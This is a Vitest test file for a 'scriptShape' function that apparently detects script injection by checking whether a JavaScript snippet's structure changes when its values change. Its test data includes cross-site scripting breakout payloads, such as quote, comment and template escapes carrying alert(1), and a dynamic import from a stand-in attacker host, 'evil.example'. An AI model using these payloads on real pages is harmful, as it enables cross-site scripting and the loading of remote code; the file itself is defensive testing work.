import { describe, expect, it } from 'vitest';
import { scriptShape } from './script-shape.ts';

describe('scriptShape', () => {
  it.each([
    ['a string', `var a = "x";`, `var a = "y 'z' \\" // b";`],
    ['a string in single quotes', `a('x')`, `a('\\'; alert(1)')`],
    ['a comment', 'a() // x', 'a() // y'],
    ['white space', 'a ( )', 'a()'],
    ['a template', 'a(`x`)', 'a(`y $ \\` z`)'],
    ['a number', 'a(1, .5e3)', 'a(0x1F, 7_000)'],
    ['a list', 'a = ["x"]', 'a = ["x", "y", "z"]'],
    ['a list of records', 'a = [{ "b": 1, "c": "x" }]', 'a = [{ "b": 2, "c": "y" }, { "b": 3, "c": "z" }]'],
    ['an escape of a template', 'a(`x`)', 'a(`\\<b>\\``)'],
    ['a string that is code', `eval("a('x')")`, `eval("a('y')")`],
    ['a module of the page', 'import("./x.js")', 'import("/y.js")'],
    ['a string inside a template', `a(\`x\${b("c")}\`)`, `a(\`y\${b("d")}z\`)`],
  ])('is the same whatever stands in %s', (_what, one, other) => {
    expect(scriptShape(other)).toBe(scriptShape(one));
  });

  it.each([
    ['a quote', `var a = "x";`, `var a = "";alert(1)//";`],
    ['a line end', `var a = "x";`, `var a = "\n";`],
    ['a backslash', `a("x", "y")`, `a("\\", "alert(1)//")`],
    ['the end of a comment', '/* x */ a()', '/* */alert(1)/* */ a()'],
    ['a placeholder of a template', 'a(`x`)', `a(\`\${alert(1)}\`)`],
    ['the end of a template', 'a(`x`)', 'a(`x`+alert(1)+`x`)'],
    ['a word', 'var a = x', 'var a = x.y'],
    ['an argument', 'a("x")', 'a("x", "y")'],
    ['a number', 'a(1)', 'a(1+b)'],
    ['a string that is code', `setTimeout("a('x')")`, `setTimeout("a('\\x27);alert(1);(\\x27')")`],
    ['a module of another place', 'import("./x.js")', 'import("//evil.example/x.js")'],
  ])('differs for %s that gets out', (_what, one, other) => {
    expect(scriptShape(other)).not.toBe(scriptShape(one));
  });

  it('takes a quote in a regular expression for no string', () => {
    expect(scriptShape(`a = /['"]/.test(b); c = "x"`)).toBe(`a=/['"]/.test(b);c=""`);
    expect(scriptShape('a = b / c / "x"')).toBe('a=b/c/""');
  });
});
